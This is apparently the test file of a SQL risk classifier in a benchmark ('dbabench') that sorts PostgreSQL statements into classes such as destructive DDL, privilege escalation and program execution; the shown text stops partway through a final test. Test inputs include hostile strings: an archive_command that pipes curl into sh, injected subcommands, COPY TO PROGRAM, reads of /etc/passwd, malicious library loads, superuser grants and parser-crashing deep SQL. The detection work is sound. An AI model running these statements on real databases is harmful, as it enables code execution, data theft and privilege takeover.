"""The SQL classifier: what each statement does, read from PostgreSQL's parse tree."""

from __future__ import annotations

import pytest

from dbabench.model.statement import StatementClass
from dbabench.model.trace import StatementInfo
from dbabench.policy import classify, is_mutating, normalize_relation, parse_pg_bool
from dbabench.policy.reach import setting_reach


def only(sql: str) -> StatementInfo:
    infos = classify(sql)
    assert len(infos) == 1, infos
    return infos[0]


@pytest.mark.parametrize(("sql", "classes"), [
    # Reads
    ("SELECT 1", ["read_only"]),
    ("select count(*) from orders where status = 'open'", ["read_only"]),
    ("SHOW work_mem", ["read_only"]),
    ("SELECT * FROM orders FOR UPDATE", ["read_only"]),
    ("COPY orders TO STDOUT", ["read_only"]),
    ("DECLARE c CURSOR FOR SELECT * FROM orders", ["read_only"]),
    ("PREPARE q AS SELECT * FROM orders WHERE id = $1", ["read_only"]),
    # A prepared statement is there to be EXECUTEd, which hides it: judge it when prepared.
    ("PREPARE q AS DELETE FROM orders", ["dml_unscoped", "destructive_ddl"]),
    ("SELECT * FROM pg_stat_activity", ["read_only", "session_inspection"]),
    ("select l.* from pg_catalog.pg_locks l join pg_class c on c.oid = l.relation",
     ["read_only", "session_inspection"]),
    ("SELECT pid, pg_blocking_pids(pid) FROM pg_stat_activity",
     ["read_only", "session_inspection"]),
    ("SELECT * FROM pg_stat_user_tables", ["read_only", "session_inspection"]),
    ("SELECT * FROM pg_stats WHERE tablename = 'orders'", ["read_only", "session_inspection"]),
    ("SELECT * FROM pg_statistic", ["read_only", "session_inspection"]),
    ("SELECT * FROM pg_statio_user_tables", ["read_only", "session_inspection"]),
    ("SELECT pg_stat_get_activity(NULL)", ["read_only", "session_inspection"]),
    # EXPLAIN: a plain EXPLAIN runs nothing; ANALYZE runs its statement.
    ("EXPLAIN SELECT * FROM orders", ["explain"]),
    ("EXPLAIN DELETE FROM orders", ["explain"]),
    ("EXPLAIN (ANALYZE false) DELETE FROM orders", ["explain"]),
    ("EXPLAIN (FORMAT JSON) SELECT * FROM pg_stat_activity", ["explain"]),
    ("EXPLAIN ANALYZE SELECT * FROM orders", ["read_only", "explain_analyze"]),
    ("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM orders",
     ["explain_analyze", "dml_unscoped", "destructive_ddl"]),
    ("EXPLAIN ANALYZE UPDATE orders SET x = 1 WHERE id = 3", ["explain_analyze", "dml_scoped"]),
    # DML and its scope
    ("DELETE FROM orders", ["dml_unscoped", "destructive_ddl"]),
    ("UPDATE orders SET status = 'x'", ["dml_unscoped"]),
    ("DELETE FROM orders WHERE true", ["dml_unscoped", "destructive_ddl"]),
    ("DELETE FROM orders WHERE 1 = 1", ["dml_unscoped", "destructive_ddl"]),
    ("DELETE FROM orders WHERE 'a' = 'a'", ["dml_unscoped", "destructive_ddl"]),
    ("DELETE FROM orders WHERE 't'::boolean", ["dml_unscoped", "destructive_ddl"]),
    ("DELETE FROM orders WHERE NOT false", ["dml_unscoped", "destructive_ddl"]),
    ("DELETE FROM orders WHERE id = 5 OR true", ["dml_unscoped", "destructive_ddl"]),
    ("DELETE FROM orders WHERE now() > '2000-01-01'", ["dml_unscoped", "destructive_ddl"]),
    ("DELETE FROM orders WHERE EXISTS (SELECT 1)", ["dml_unscoped", "destructive_ddl"]),
    ("DELETE FROM orders WHERE id = 5", ["dml_scoped", "destructive_ddl"]),
    ("DELETE FROM orders WHERE id = 5 AND true", ["dml_scoped", "destructive_ddl"]),
    ("DELETE FROM orders WHERE false", ["dml_scoped", "destructive_ddl"]),
    ("UPDATE orders SET status = 'x' WHERE created_at < now() - interval '1 day'",
     ["dml_scoped"]),
    ("DELETE FROM orders o USING customers c WHERE o.customer_id = c.id AND c.banned",
     ["dml_scoped", "destructive_ddl"]),
    ("DELETE FROM orders WHERE CURRENT OF c", ["dml_scoped", "destructive_ddl"]),
    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", ["dml_scoped"]),
    ("INSERT INTO audit VALUES (1)", ["insert"]),
    ("INSERT INTO audit SELECT * FROM orders ON CONFLICT DO NOTHING", ["insert"]),
    ("COPY orders FROM STDIN", ["insert"]),
    # Data-modifying CTEs: the outer SELECT does not hide them.
    ("WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d",
     ["dml_unscoped", "destructive_ddl"]),
    ("WITH d AS (DELETE FROM orders WHERE id < 10 RETURNING *) INSERT INTO archive SELECT * FROM d",
     ["insert", "dml_scoped", "destructive_ddl"]),
    # DDL
    ("CREATE TABLE scratch (a int)", ["ddl"]),
    ("CREATE TABLE scratch AS SELECT * FROM orders", ["ddl"]),
    ("SELECT * INTO scratch FROM orders", ["ddl"]),
    ("CREATE VIEW v AS SELECT * FROM pg_stat_activity", ["ddl"]),
    ("CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM orders", ["ddl"]),
    ("CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM orders; END",
     ["ddl"]),
    ("COMMENT ON TABLE orders IS 'x'", ["ddl"]),
    ("CREATE EXTENSION pg_stat_statements", ["ddl"]),
    ("DROP VIEW v", ["ddl"]),
    ("ALTER TABLE orders ALTER COLUMN total SET STATISTICS 1000", ["ddl"]),
    ("ALTER TABLE orders VALIDATE CONSTRAINT c", ["ddl"]),
    # Destructive DDL
    ("DROP TABLE orders", ["destructive_ddl"]),
    ("DROP TABLE IF EXISTS orders CASCADE", ["destructive_ddl"]),
    ("DROP INDEX orders_status_idx", ["destructive_ddl"]),
    ("DROP INDEX CONCURRENTLY orders_status_idx", ["destructive_ddl"]),
    ("DROP SCHEMA app CASCADE", ["destructive_ddl"]),
    ("DROP DATABASE app", ["destructive_ddl"]),
    ("DROP MATERIALIZED VIEW mv", ["destructive_ddl"]),
    ("DROP FUNCTION f() CASCADE", ["destructive_ddl"]),
    ("DROP OWNED BY app", ["destructive_ddl"]),
    ("TRUNCATE orders", ["destructive_ddl"]),
    ("TRUNCATE TABLE orders, customers RESTART IDENTITY", ["destructive_ddl"]),
    ("ALTER TABLE orders DROP COLUMN note", ["destructive_ddl"]),
    # Maintenance: plain or lock-heavy
    ("ANALYZE orders", ["maintenance"]),
    ("ANALYZE", ["maintenance"]),
    ("VACUUM orders", ["maintenance"]),
    ("VACUUM (ANALYZE, VERBOSE) orders", ["maintenance"]),
    ("VACUUM (FULL false) orders", ["maintenance"]),
    ("CREATE INDEX CONCURRENTLY i ON orders (status)", ["maintenance"]),
    ("REINDEX INDEX CONCURRENTLY i", ["maintenance"]),
    ("REINDEX (CONCURRENTLY) TABLE orders", ["maintenance"]),
    ("REFRESH MATERIALIZED VIEW CONCURRENTLY mv", ["maintenance"]),
    ("CHECKPOINT", ["maintenance"]),
    ("VACUUM FULL orders", ["lock_heavy_maintenance"]),
    ("VACUUM (FULL) orders", ["lock_heavy_maintenance"]),
    ("VACUUM FULL", ["lock_heavy_maintenance"]),
    ("CLUSTER orders USING orders_pkey", ["lock_heavy_maintenance"]),
    ("REINDEX TABLE orders", ["lock_heavy_maintenance"]),
    ("REINDEX DATABASE app", ["lock_heavy_maintenance"]),
    ("CREATE INDEX i ON orders (status)", ["lock_heavy_maintenance"]),
    ("REFRESH MATERIALIZED VIEW mv", ["lock_heavy_maintenance"]),
    ("LOCK TABLE orders", ["lock_heavy_maintenance"]),
    ("LOCK TABLE orders IN ACCESS EXCLUSIVE MODE", ["lock_heavy_maintenance"]),
    ("LOCK TABLE orders IN SHARE MODE", ["lock_heavy_maintenance"]),
    ("LOCK TABLE orders IN ROW EXCLUSIVE MODE", ["transaction_control"]),
    ("ALTER TABLE orders ALTER COLUMN total TYPE numeric(12,2)",
     ["ddl", "lock_heavy_maintenance"]),
    ("ALTER TABLE orders SET TABLESPACE fast", ["ddl", "lock_heavy_maintenance"]),
    ("ALTER TABLE orders ADD COLUMN note text", ["ddl", "lock_heavy_maintenance"]),
    # Configuration and session settings
    ("ALTER SYSTEM SET fsync = off", ["config_change"]),
    ("ALTER SYSTEM RESET ALL", ["config_change"]),
    ("ALTER DATABASE app SET statement_timeout = '5s'", ["config_change"]),
    ("ALTER ROLE app SET work_mem = '64MB'", ["config_change"]),
    ("ALTER TABLE orders SET (autovacuum_enabled = false)", ["config_change"]),
    ("ALTER TABLE orders RESET (fillfactor)", ["config_change"]),
    ("SELECT pg_reload_conf()", ["config_change"]),
    ("SET work_mem = '256MB'", ["session_setting"]),
    ("SET LOCAL lock_timeout = '1s'", ["session_setting"]),
    ("RESET ALL", ["session_setting"]),
    ("SELECT set_config('work_mem', '1GB', false)", ["session_setting"]),
    ("DISCARD ALL", ["session_setting"]),
    # Transactions
    ("BEGIN", ["transaction_control"]),
    ("START TRANSACTION ISOLATION LEVEL REPEATABLE READ", ["transaction_control"]),
    ("COMMIT", ["transaction_control"]),
    ("ROLLBACK", ["transaction_control"]),
    ("SAVEPOINT s", ["transaction_control"]),
    ("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", ["transaction_control"]),
    # Sessions
    ("SELECT pg_terminate_backend(4242)", ["session_termination"]),
    ("SELECT pg_catalog.pg_terminate_backend(4242)", ["session_termination"]),
    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE application_name = 'batch'",
     ["session_inspection", "session_termination"]),
    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
     ["session_inspection", "session_termination", "unscoped_termination"]),
    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE true",
     ["session_inspection", "session_termination", "unscoped_termination"]),
    ("SELECT pg_terminate_backend(a.pid) FROM pg_stat_activity a"
     " JOIN pg_locks l ON l.pid = a.pid AND NOT l.granted",
     ["session_inspection", "session_termination"]),
    ("WITH b AS (SELECT unnest(pg_blocking_pids(pid)) AS pid FROM pg_stat_activity"
     " WHERE wait_event_type = 'Lock') SELECT pg_terminate_backend(pid) FROM b",
     ["session_inspection", "session_termination"]),
    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity LIMIT 1",
     ["session_inspection", "session_termination"]),
    ("SELECT pg_cancel_backend(4242)", ["query_cancel"]),
    ("SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE state = 'active'",
     ["session_inspection", "query_cancel"]),
    # Statistics resets
    ("SELECT pg_stat_reset()", ["stats_reset"]),
    ("SELECT pg_stat_reset_shared('bgwriter')", ["stats_reset"]),
    ("SELECT pg_stat_reset_single_table_counters('orders'::regclass)", ["stats_reset"]),
    ("SELECT pg_stat_statements_reset()", ["stats_reset"]),
    # Privileges
    ("GRANT SELECT ON orders TO analyst", ["privilege"]),
    ("REVOKE ALL ON orders FROM PUBLIC", ["privilege"]),
    ("GRANT SELECT ON orders TO PUBLIC", ["privilege", "privilege_escalation"]),
    # a login, a password, a membership or a SUPERUSER-like attribute: a way past the gate
    ("GRANT pg_monitor TO agent", ["privilege", "role_escalation"]),
    ("GRANT pg_monitor TO agent WITH ADMIN OPTION", ["privilege", "role_escalation"]),
    ("GRANT postgres TO app", ["privilege", "privilege_escalation", "role_escalation"]),
    ("GRANT pg_execute_server_program TO app",
     ["privilege", "privilege_escalation", "role_escalation"]),
    ("REVOKE postgres FROM app", ["privilege"]),
    ("CREATE ROLE analyst LOGIN PASSWORD 'x'", ["privilege", "role_escalation"]),
    ("CREATE ROLE x LOGIN PASSWORD 'x' IN ROLE postgres", ["privilege", "role_escalation"]),
    ("CREATE ROLE x IN ROLE pg_monitor", ["privilege", "role_escalation"]),
    ("CREATE ROLE x IN GROUP pg_read_all_data", ["privilege", "role_escalation"]),
    ("CREATE ROLE x IN ROLE CURRENT_USER", ["privilege", "role_escalation"]),
    ("CREATE ROLE x ADMIN app", ["privilege", "role_escalation"]),
    ("GRANT app TO x WITH ADMIN OPTION", ["privilege", "role_escalation"]),
    ("CREATE ROLE x PASSWORD 'x'", ["privilege", "role_escalation"]),
    ("CREATE USER x", ["privilege", "role_escalation"]),
    ("CREATE USER x WITH LOGIN", ["privilege", "role_escalation"]),
    ("CREATE ROLE boss SUPERUSER", ["privilege", "privilege_escalation", "role_escalation"]),
    ("CREATE ROLE r REPLICATION", ["privilege", "privilege_escalation", "role_escalation"]),
    ("ALTER ROLE app WITH SUPERUSER", ["privilege", "privilege_escalation", "role_escalation"]),
    ("ALTER USER app BYPASSRLS", ["privilege", "privilege_escalation", "role_escalation"]),
    ("ALTER ROLE app CREATEROLE", ["privilege", "privilege_escalation", "role_escalation"]),
    ("ALTER ROLE app CREATEDB", ["privilege", "privilege_escalation", "role_escalation"]),
    ("ALTER ROLE app REPLICATION", ["privilege", "privilege_escalation", "role_escalation"]),
    ("ALTER ROLE analyst LOGIN", ["privilege", "role_escalation"]),
    ("ALTER ROLE app PASSWORD 'known'", ["privilege", "role_escalation"]),
    ("ALTER ROLE app ENCRYPTED PASSWORD 'md5abc'", ["privilege", "role_escalation"]),
    ("ALTER ROLE app PASSWORD NULL", ["privilege", "role_escalation"]),
    ("ALTER GROUP pg_monitor ADD USER x", ["privilege", "role_escalation"]),
    ("ALTER GROUP postgres ADD USER x", ["privilege", "role_escalation"]),
    ("DO $$ BEGIN CREATE ROLE x LOGIN SUPERUSER; END $$", ["role_escalation", "procedural"]),
    ("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'GRANT postgres TO app'",
     ["ddl", "role_escalation"]),
    # what fixing a role needs, and taking away, are no way in
    ("ALTER ROLE app NOSUPERUSER", ["privilege"]),
    ("ALTER ROLE app NOLOGIN", ["privilege"]),
    ("ALTER ROLE app VALID UNTIL 'infinity'", ["privilege"]),
    ("ALTER ROLE app CONNECTION LIMIT 50", ["privilege"]),
    ("ALTER ROLE app NOCREATEDB NOREPLICATION NOBYPASSRLS", ["privilege"]),
    ("ALTER GROUP pg_monitor DROP USER x", ["privilege"]),
    # a membership among the application's roles gives no login to use it with
    ("GRANT schema_migrations TO partman", ["privilege"]),
    ("ALTER GROUP schema_migrations ADD USER partman", ["privilege"]),
    ("CREATE ROLE x IN ROLE app", ["privilege"]),
    ("CREATE ROLE x ROLE app", ["privilege"]),
    ("CREATE ROLE x USER app", ["privilege"]),
    ("CREATE ROLE readonly NOLOGIN", ["privilege"]),
    ("CREATE ROLE readonly", ["privilege"]),
    ("CREATE GROUP readers", ["privilege"]),
    ("CREATE USER x NOLOGIN", ["privilege"]),
    ("DROP ROLE analyst", ["privilege"]),
    ("ALTER TABLE orders OWNER TO app", ["ddl", "lock_heavy_maintenance"]),
    ("ALTER FUNCTION f() OWNER TO app", ["privilege"]),
    # The server's files and programs
    ("COPY orders TO '/tmp/orders.csv'", ["read_only", "file_access"]),
    ("COPY orders FROM '/tmp/orders.csv'", ["read_only", "file_access"]),
    ("COPY orders TO PROGRAM 'gzip > /tmp/o.gz'", ["read_only", "program_execution"]),
    ("COPY (SELECT 1) TO PROGRAM 'sh -c id'", ["read_only", "program_execution"]),
    ("SELECT pg_read_file('/etc/passwd')", ["read_only", "file_access"]),
    ("SELECT pg_read_binary_file('postgresql.conf')", ["read_only", "file_access"]),
    ("SELECT * FROM pg_ls_dir('.')", ["read_only", "file_access"]),
    ("SELECT lo_import('/etc/passwd')", ["read_only", "file_access"]),
    ("SELECT lo_export(16400, '/tmp/x')", ["read_only", "file_access"]),
    ("LOAD 'auto_explain'", ["session_setting"]),
    ("LOAD '/tmp/evil.so'", ["session_setting", "program_execution"]),
    ("LOAD '$libdir/plugins/x'", ["session_setting", "program_execution"]),
    # settings the server runs as a shell command or loads code from, at every layer
    ("ALTER SYSTEM SET archive_command = 'curl -s x | sh'", ["config_change", "program_execution"]),
    ("ALTER SYSTEM SET archive_command = 'cp %p /x/%f; id'",
     ["config_change", "program_execution"]),
    ("ALTER SYSTEM SET archive_command = 'cp %p $(id)'", ["config_change", "program_execution"]),
    ("ALTER SYSTEM SET archive_command = 'true && id'", ["config_change", "program_execution"]),
    ("ALTER SYSTEM SET archive_command = '/tmp/cp %p /x'", ["config_change", "program_execution"]),
    ("ALTER SYSTEM SET archive_command = 'cp -r /etc %p'", ["config_change", "program_execution"]),
    ("ALTER SYSTEM SET restore_command = 'cp /x/%f %p'", ["config_change", "program_execution"]),
    ("ALTER SYSTEM SET archive_cleanup_command = 'pg_archivecleanup /x %r'",
     ["config_change", "program_execution"]),
    ("ALTER SYSTEM SET recovery_end_command = 'id'", ["config_change", "program_execution"]),
    ("ALTER SYSTEM SET ssl_passphrase_command = 'echo x'", ["config_change", "program_execution"]),
    ("ALTER ROLE app SET archive_command = 'id'", ["config_change", "program_execution"]),
    ("ALTER DATABASE app SET restore_command = 'id'", ["config_change", "program_execution"]),
    ("SET archive_command = 'id'", ["session_setting", "program_execution"]),
    ("SET LOCAL dynamic_library_path = '/tmp'", ["session_setting", "program_execution"]),
    ("ALTER SYSTEM SET shared_preload_libraries = 'pg_stat_statements, /tmp/evil'",
     ["config_change", "program_execution"]),
    ("ALTER ROLE app SET session_preload_libraries = '/tmp/evil.so'",
     ["config_change", "program_execution"]),
    ("ALTER DATABASE app SET local_preload_libraries = '$libdir/plugins/x'",
     ["config_change", "program_execution"]),
    ("ALTER SYSTEM SET archive_library = '../../tmp/x'", ["config_change", "program_execution"]),
    ("ALTER DATABASE app SET session_preload_libraries FROM CURRENT",
     ["config_change", "program_execution"]),
    ("SELECT set_config('session_preload_libraries', '/tmp/x', false)",
     ["session_setting", "program_execution"]),
    ("SELECT set_config('archive_command', current_setting('x'), false)",
     ["session_setting", "program_execution"]),
    ("SELECT set_config(name, '/tmp/x', false) FROM pg_settings",
     ["session_inspection", "session_setting", "dynamic_sql"]),
    ("DO $$ BEGIN PERFORM set_config('dynamic_library_path', '/tmp', false); END $$",
     ["program_execution", "procedural"]),
    ("CREATE FUNCTION f() RETURNS void LANGUAGE sql SET session_preload_libraries = '/tmp/x'"
     " AS 'SELECT 1'", ["ddl", "program_execution"]),
    ("CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p", ["ddl", "program_execution"]),
    ("ALTER SUBSCRIPTION s CONNECTION 'host=y'", ["ddl", "program_execution"]),
    # their resets, an archive command of the documented form, the server's own libraries
    ("ALTER SYSTEM RESET archive_command", ["config_change"]),
    ("ALTER SYSTEM RESET ALL", ["config_change"]),
    ("ALTER ROLE app RESET session_preload_libraries", ["config_change"]),
    ("RESET dynamic_library_path", ["session_setting"]),
    ("SET dynamic_library_path TO DEFAULT", ["session_setting"]),
    ("ALTER SYSTEM SET archive_command = ''", ["config_change"]),
    ("ALTER SYSTEM SET archive_command ="
     " 'test ! -f ../wal_archive/%f && cp %p ../wal_archive/%f'", ["config_change"]),
    ("ALTER SYSTEM SET archive_command = 'mkdir -p /archive && /bin/cp %p /archive/%f'",
     ["config_change"]),
    ("ALTER SYSTEM SET archive_command = '/bin/true'", ["config_change"]),
    ("ALTER SYSTEM SET shared_preload_libraries = 'pg_stat_statements, auto_explain'",
     ["config_change"]),
    ("ALTER ROLE app SET session_preload_libraries = 'auto_explain'", ["config_change"]),
    ("ALTER SYSTEM SET session_preload_libraries = ''", ["config_change"]),
    ("SET dynamic_library_path = '$libdir'", ["session_setting"]),
    ("DROP SUBSCRIPTION s", ["ddl"]),
    # Opaque code
    ("DO $$ BEGIN DELETE FROM orders; END $$", ["procedural"]),
    ("CALL cleanup()", ["procedural"]),
    ("EXECUTE q(1)", ["procedural"]),
    ("SELECT dblink_exec('dbname=app', 'DROP TABLE orders')", ["read_only", "untrusted_code"]),
])
def test_classes(sql: str, classes: list[str]) -> None:
    assert only(sql).classes == classes


@pytest.mark.parametrize("sql", ["SELEC 1", "DELETE orders", "DROP TABLE", "'unterminated",
                                 "SELECT 1; SELEC 2", "\ud800"])
def test_unparseable_sql_is_one_statement_and_never_raises(sql: str) -> None:
    [info] = classify(sql)
    assert (info.text, info.classes) == (sql.strip(), ["unparseable"]) and info.error


@pytest.mark.parametrize("sql", ["", "   ", "-- only a comment", ";"])
def test_no_statement(sql: str) -> None:
    assert classify(sql) == []


def test_multi_statement_string_is_split_on_statement_boundaries() -> None:
    # Semicolons in literals and comments do not split; comments between statements drop.
    sql = ("SELECT 'a;b' AS s;\n"
           "-- a comment; with a semicolon\n"
           "DELETE FROM orders WHERE id = 1;"
           "  VACUUM FULL orders ;\n"
           "/* last */ SELECT pg_terminate_backend(7)")
    infos = classify(sql)
    assert [i.text for i in infos] == [
        "SELECT 'a;b' AS s",
        "DELETE FROM orders WHERE id = 1",
        "VACUUM FULL orders",
        "SELECT pg_terminate_backend(7)",
    ]
    assert [i.classes for i in infos] == [
        ["read_only"], ["dml_scoped", "destructive_ddl"], ["lock_heavy_maintenance"],
        ["session_termination"]]


def test_statement_text_slices_non_ascii_source_by_character() -> None:
    infos = classify("SELECT 'é€'; DELETE FROM commandes")
    assert [i.text for i in infos] == ["SELECT 'é€'", "DELETE FROM commandes"]


def test_transaction_wrapped_statements_are_each_classified() -> None:
    infos = classify("BEGIN; TRUNCATE orders; ROLLBACK;")
    assert [i.classes for i in infos] == [
        ["transaction_control"], ["destructive_ddl"], ["transaction_control"]]


@pytest.mark.parametrize(("sql", "relations"), [
    ("SELECT * FROM orders o JOIN public.customers c ON c.id = o.customer_id",
     ["orders", "customers"]),
    ('SELECT * FROM Sales.Orders, "Mixed"', ["sales.orders", "mixed"]),
    ("SELECT * FROM pg_catalog.pg_stat_activity", ["pg_catalog.pg_stat_activity"]),
    ("DROP TABLE public.orders, archive.orders_2020", ["orders", "archive.orders_2020"]),
    ("DROP INDEX orders_status_idx", ["orders_status_idx"]),
    ("DROP SCHEMA app CASCADE", []),
    ("DROP DATABASE app", []),
    ("VACUUM FULL", []),
    ("TRUNCATE orders, customers", ["orders", "customers"]),
    ("CREATE INDEX ON public.orders (status)", ["orders"]),
    ("WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", ["orders"]),
    ("WITH d AS (SELECT 1) SELECT * FROM app.d", ["app.d"]),
    ("EXPLAIN DELETE FROM orders", ["orders"]),
    ("LOCK TABLE orders, customers", ["orders", "customers"]),
    ("SELECT pg_terminate_backend(4242)", []),
])
def test_relations(sql: str, relations: list[str]) -> None:
    assert only(sql).relations == relations


@pytest.mark.parametrize(("sql", "functions"), [
    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()",
     ["pg_terminate_backend", "pg_backend_pid"]),
    ("SELECT PG_CANCEL_BACKEND(1), Pg_Cancel_Backend(2)", ["pg_cancel_backend"]),
    ("SELECT public.my_fn(), pg_catalog.now()", ["my_fn", "pg_catalog.now"]),
    ("SELECT 1", []),
    ("CALL cleanup(1)", ["cleanup"]),
])
def test_functions(sql: str, functions: list[str]) -> None:
    assert only(sql).functions == functions


@pytest.mark.parametrize(("sql", "settings"), [
    ("ALTER SYSTEM SET fsync = off", {"fsync": "off"}),
    ("ALTER SYSTEM SET fsync TO 'off'", {"fsync": "off"}),
    ("ALTER SYSTEM SET Autovacuum = false", {"autovacuum": "false"}),
    ("ALTER SYSTEM SET statement_timeout = 0", {"statement_timeout": "0"}),
    ("ALTER SYSTEM SET random_page_cost = 1.1", {"random_page_cost": "1.1"}),
    ("ALTER SYSTEM RESET fsync", {"fsync": "default"}),
    ("ALTER SYSTEM RESET ALL", {"all": "default"}),
    ("ALTER SYSTEM SET shared_preload_libraries = 'a', 'b'",
     {"shared_preload_libraries": "a, b"}),
    ("ALTER DATABASE app SET lock_timeout = '2s'", {"lock_timeout": "2s"}),
    ("ALTER ROLE app IN DATABASE app SET work_mem TO DEFAULT", {"work_mem": "default"}),
    ("ALTER TABLE orders SET (autovacuum_enabled = false)", {"autovacuum_enabled": "false"}),
    ("ALTER TABLE orders SET (fillfactor = 70, autovacuum_vacuum_scale_factor = 0.01,"
     " toast.autovacuum_enabled = off)",
     {"fillfactor": "70", "autovacuum_vacuum_scale_factor": "0.01",
      "toast.autovacuum_enabled": "off"}),
    ("ALTER TABLE orders RESET (fillfactor)", {"fillfactor": "default"}),
    ("SET work_mem = '256MB'", {"work_mem": "256MB"}),
    ("SET SESSION statement_timeout TO 5000", {"statement_timeout": "5000"}),
    ("SET TIME ZONE 'UTC'", {"timezone": "UTC"}),
    ("RESET work_mem", {"work_mem": "default"}),
    ("SELECT set_config('Work_Mem', '1GB', false)", {"work_mem": "1GB"}),
    ("SELECT set_config(name, '1', false) FROM t", {}),
    ("SET TRANSACTION READ ONLY", {}),
])
def test_settings(sql: str, settings: dict[str, str]) -> None:
    assert only(sql).settings == settings


def test_explain_without_analyze_does_not_take_on_the_explained_statement() -> None:
    info = only("EXPLAIN SELECT pg_terminate_backend(pid) FROM pg_stat_activity")
    assert info.classes == ["explain"]
    assert info.functions == ["pg_terminate_backend"]


def test_explain_analyze_takes_on_the_executed_statement() -> None:
    info = only("EXPLAIN ANALYZE SELECT pg_terminate_backend(pid) FROM pg_stat_activity")
    assert {"explain_analyze", "session_termination", "unscoped_termination"} <= set(info.classes)


def test_vacuum_of_a_catalog_is_not_inspection() -> None:
    assert only("VACUUM pg_class").classes == ["maintenance"]


def test_classes_come_from_the_closed_vocabulary() -> None:
    vocabulary = {cls.value for cls in StatementClass}
    sql = ("SELECT 1; DELETE FROM t; ALTER SYSTEM SET x = 1; SELECT pg_terminate_backend(1);"
           " DO $$ BEGIN END $$; COPY t TO PROGRAM 'x'; GRANT a TO b; SELEC")
    for info in classify(sql):
        assert set(info.classes) <= vocabulary


@pytest.mark.parametrize(("sql", "mutating"), [
    ("SELECT 1", False),
    ("SELECT * FROM pg_stat_activity", False),
    ("EXPLAIN DELETE FROM orders", False),
    ("EXPLAIN ANALYZE SELECT * FROM orders", False),
    ("SET work_mem = '1GB'", False),
    ("BEGIN; SELECT 1; COMMIT", False),
    ("SHOW fsync", False),
    ("EXPLAIN ANALYZE DELETE FROM orders", True),
    ("SELECT 1; DELETE FROM orders WHERE id = 1", True),
    ("INSERT INTO t VALUES (1)", True),
    ("CREATE TABLE t (a int)", True),
    ("ANALYZE orders", True),
    ("ALTER SYSTEM SET work_mem = '1GB'", True),
    ("SELECT pg_terminate_backend(1)", True),
    ("SELECT pg_cancel_backend(1)", True),
    ("SELECT pg_stat_reset()", True),
    ("DO $$ BEGIN END $$", True),
    ("SELEC 1", True),
])
def test_is_mutating(sql: str, mutating: bool) -> None:
    assert is_mutating(classify(sql)) is mutating


def test_is_mutating_of_nothing() -> None:
    assert is_mutating([]) is False


@pytest.mark.parametrize(("text", "value"), [
    ("off", False), ("OFF", False), ("of", False), ("false", False), ("f", False),
    ("no", False), ("n", False), ("0", False), (" False ", False),
    ("on", True), ("true", True), ("t", True), ("yes", True), ("1", True),
    ("o", None), ("", None), ("2", None), ("5s", None), ("default", None),
])
def test_parse_pg_bool(text: str, value: bool | None) -> None:
    assert parse_pg_bool(text) is value


@pytest.mark.parametrize(("name", "key"), [
    ("orders", "orders"), ("public.orders", "orders"), ("Public.Orders", "orders"),
    ("sales.orders", "sales.orders"), ("publicity.x", "publicity.x"),
])
def test_normalize_relation(name: str, key: str) -> None:
    assert normalize_relation(name) == key


# -- deep input: refused as unparseable, never an exception (issue 38) ------------------------

def _nested_bodies(depth: int) -> str:
    return ("".join(f"CREATE FUNCTION f{i}() RETURNS void LANGUAGE sql AS $b{i}$"
                    for i in range(depth))
            + "SELECT 1" + "".join(f"$b{i}$" for i in reversed(range(depth))))


@pytest.mark.parametrize("sql", [
    # the attack: PL/pgSQL's tree is read recursively (RecursionError, a 500)
    "DO $$ BEGIN " + "IF true THEN " * 400 + "PERFORM 1;" + " END IF;" * 400 + " END $$",
    # a left-deep chain: libpg_query builds pglast's tree recursively in C (SIGSEGV)
    "SELECT " + "+".join(["1"] * 100_000),
    " UNION ALL ".join(["SELECT 1"] * 20_000),
    # the grammar's own limit
    "SELECT " + "(" * 100_000 + "1" + ")" * 100_000,
    # a constant condition read recursively
    "DELETE FROM orders WHERE " + "NOT " * 5_000 + "true",
    # bodies inside bodies, each parsed and walked in turn
    _nested_bodies(200),
], ids=["do-400-ifs", "chain-100k", "union-20k", "parens-100k", "not-5k", "bodies-200"])
def test_too_deep_is_unparseable_and_never_raises(sql: str) -> None:
    [info] = classify(sql)
    assert info.classes == ["unparseable"] and info.error


def test_deep_but_judgeable_sql_is_classified() -> None:
    # what the parser folds (parentheses) or keeps flat (a long VALUES list) is no depth
    deep = "SELECT " + "(" * 2_000 + "pg_read_file('/etc/passwd')" + ")" * 2_000
    assert only(deep).classes == ["read_only", "file_access"]
    rows = ", ".join(f"({i}, NULL, true, 'x')" for i in range(5_000))
    assert only(f"INSERT INTO orders VALUES {rows}").classes == ["insert"]
    assert only("SELECT " + "+".join(["1"] * 2_000)).classes == ["read_only"]
    assert [i.classes for i in classify(_nested_bodies(20))] == [["ddl"]]
    # the bound is per statement: many short ones are no deep one
    assert len(classify("SELECT 1 + 1;" * 5_000)) == 5_000


# -- settings that run programs or load code ---------------------------------------------------

@pytest.mark.parametrize(("name", "value", "runs"), [
    ("archive_command", "test ! -f ../wal_archive/%f && cp %p ../wal_archive/%f", False),
    ("archive_command", "mkdir -p ../wal_archive && test ! -f ../wal_archive/%f"
                        " && cp %p ../wal_archive/%f", False),
    ("archive_command", "/usr/bin/cp %p /archive/%f", False),
    ("archive_command", "true", False),
    ("archive_command", "", False),
    ("archive_command", "cp %p /archive/%f\nid", True),
    ("archive_command", "cp %p /archive/%f & id", True),
    ("archive_command", "cp %p /archive/`id`", True),
    ("archive_command", "cp %p > /archive/%f", True),
    ("archive_command", "cp /etc/passwd /tmp/x", True),
    ("archive_command", "cp %p --target-directory=/x", True),
    ("archive_command", "gzip %p", True),
    ("archive_command", "test -f %p && rm %p", True),
    ("archive_command", None, True),
    ("ARCHIVE_COMMAND", "id", True),
    ("restore_command", "cp ../wal_archive/%f %p", True),
    ("restore_command", "", False),
    ("session_preload_libraries", "auto_explain", False),
